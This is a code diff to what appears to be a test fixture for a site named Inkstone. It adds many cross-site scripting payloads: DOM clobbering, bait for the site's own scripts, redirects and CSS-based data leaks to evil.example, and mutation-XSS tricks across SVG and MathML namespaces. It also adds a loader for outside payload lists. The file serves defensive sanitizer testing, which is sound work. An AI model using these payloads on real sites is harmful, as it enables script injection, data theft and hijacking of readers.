@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+
 /** One attempt to run a script in a reader's browser. All of them call `hit()`, which the tests listen for. */
 export interface Payload {
   /** What it relies on. */
@@ -485,6 +487,80 @@ const clobbering = of('clobbered name', [
   `<dialog id=d onclose=${CODE} oncancel=${CODE} open>x</dialog>`,
 ]);
 
+/** Methods and properties of a document that an element with such a name would hide from scripts. */
+const shadows = of(
+  'name that hides what scripts use',
+  [
+    ...['getElementById', 'querySelector', 'querySelectorAll', 'createElement', 'body', 'head', 'forms'],
+    ...['documentElement', 'currentScript', 'cookie', 'addEventListener', 'visibilityState', 'activeElement'],
+  ].flatMap((name) => [
+    `<img name=${name} src=x onerror=${CODE}>`,
+    `<form name=${name}><input name=${name} id=${name}></form><object name=${name}></object><embed name=${name}>`,
+  ]),
+);
+
+/** What our own scripts look for, with what would make them do something else. */
+const baits = of('bait for our own scripts', [
+  `<p data-article="../../../evil" id=suggestions-0 data-views>press</p>`,
+  `<div class=code><pre>x</pre></div><p data-copy="<img src=x onerror=${CODE}>" data-copied="x">press</p>`,
+  `<div data-reactions><button data-type="__proto__" class=reaction-count>press</button></div>`,
+  `<button data-share>press</button><link rel=canonical href="${SCHEME}">`,
+  `<form data-suggestions="x" action="${SCHEME}"><input name=q autofocus></form>`,
+  `<ul id=suggestions-0 role=listbox><li id=suggestions-0-0 role=option data-url="${SCHEME}">press</li></ul>`,
+  `<a href="/en/x" rel=prefetch ping="${SCHEME}">press</a>`,
+  `<svg class=topics><a class=drop href="${SCHEME}"><text y=9>press</text></a></svg>`,
+  `<script type="application/ld+json">{"@type":"Article"}</script><script>${CODE}</script>`,
+  `<link rel=prefetch href="${SCHEME}"><link rel=prerender href="data:text/html,x">`,
+]);
+
+/** Where a page would lead its reader, or what it would load, without a script of any kind. */
+const leads = of('another way out of the page', [
+  `<meta http-equiv=refresh content="0;url=https://evil.example/"><p>press`,
+  `<meta http-equiv=refresh content="0;url='javascript:${CODE}'"><p>press`,
+  `<meta http-equiv=set-cookie content="inkstone_visitor=x">`,
+  `<meta name=referrer content=unsafe-url><base target=hit><base href="https://evil.example/">`,
+  `<a target=_blank href="https://evil.example/">press</a><a target=_top rel=opener href="https://evil.example/">x</a>`,
+  `<a target="hit" href="data:text/html,<script>opener.hit(1)</script>">press</a>`,
+  `<a download="x.html" href="data:text/html,<script>hit(1)</script>">press</a>`,
+  `<form action="https://evil.example/"><button>press</button></form><input form=x formaction="https://evil.example/">`,
+  `<form action="/api/v1/articles" method=post enctype="text/plain"><button autofocus>press</button></form>`,
+  `<iframe src="https://evil.example/"></iframe><iframe src="//player.vimeo.com.evil.example/video/1"></iframe>`,
+  `<iframe src="https://player.vimeo.com/video/1/../../../redirect"></iframe>`,
+  `<iframe src="https://player.vimeo.com:444/video/1"></iframe><iframe src="https://x@player.vimeo.com/video/1"></iframe>`,
+  `<iframe sandbox="allow-scripts allow-top-navigation" allow="*" name=hit src="https://player.vimeo.com/video/1"></iframe>`,
+  `<img srcset="https://e.example/x.png 1x, ${SCHEME} 2x" sizes="${SCHEME}">`,
+  `<video poster="data:image/svg+xml,<svg onload=hit(1)>" src="data:video/mp4,x"></video>`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'/>">`,
+  `<svg><image xlink:href="${SCHEME}"/><use xlink:href="https://evil.example/x.svg#x"/></svg>`,
+  `<a xlink:href="${SCHEME}" href="https://e.example/">press</a>`,
+  `<link rel=manifest href="data:application/json,{}"><link rel=icon href="data:image/svg+xml,<svg onload=hit(1)>">`,
+  `<p style="background:url(https://evil.example/?x)">x</p><style>input[value^=a]{background:url(//evil.example/a)}</style>`,
+  `<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>`,
+  `<div style="--x:url(//evil.example/)" class="skip-link site-header">x</div>`,
+]);
+
+/** Namespaces that change what the same letters mean, when a document is written out and read again. */
+const namespaces = of('mutation between namespaces', [
+  ...['style', 'title', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'textarea', 'script'].flatMap(
+    (raw) => [
+      `<svg><${raw}><a title="</${raw}><img src=x onerror=${CODE}>"></${raw}></svg>`,
+      `<math><${raw}><img title="</${raw}><img src=x onerror=${CODE}>"></${raw}></math>`,
+      `<math><annotation-xml encoding=text/html><${raw}><a title="</${raw}><img src=x onerror=${CODE}>"></annotation-xml>`,
+      `<svg><foreignObject><${raw}><!--</${raw}><img title="--></${raw}><img src=x onerror=${CODE}>"></foreignObject>`,
+      `<template><${raw}><p id="</${raw}></template><img src=x onerror=${CODE}>"></template>`,
+      `<table><tbody><${raw}><tr title="</${raw}></table><img src=x onerror=${CODE}>">`,
+    ],
+  ),
+  `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${CODE} src=1>"></form>`,
+  `<svg><mi><style><![CDATA[</style><img src=x onerror=${CODE}>]]></style></mi></svg>`,
+  `<math><mi><malignmark><style><a title="</style><img src=x onerror=${CODE}>">`,
+  `<a><svg><desc><a><table><a></table><style><!--</style></svg><a id="--><img src=x onerror=${CODE}>">`,
+  `<select><template><style><a rel="</style></template></select><img src=x onerror=${CODE}>"></style></template></select>`,
+  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${CODE}>">`,
+  `<h2><svg><style><a id="</style></h2><img src=x onerror=${CODE}>"></style></svg></h2>`,
+  `<math><mo><svg><foreignObject><math><mtext><style><img title="</style><img src=x onerror=${CODE}>">`,
+]);
+
 /** Every attempt; written for Inkstone, class by class. */
 export const PAYLOADS: readonly Payload[] = [
   ...scriptElements,
@@ -497,4 +573,16 @@ export const PAYLOADS: readonly Payload[] = [
   ...styles,
   ...escapes,
   ...clobbering,
+  ...shadows,
+  ...baits,
+  ...leads,
+  ...namespaces,
 ];
+
+/**
+ * More of them, from a file of other people's: a JSON list of texts that `HOSTILE_PAYLOADS` names. Public collections may be
+ * tried that way without being part of this repository.
+ */
+export const BORROWED: readonly string[] = process.env.HOSTILE_PAYLOADS
+  ? JSON.parse(readFileSync(process.env.HOSTILE_PAYLOADS, 'utf8'))
+  : [];
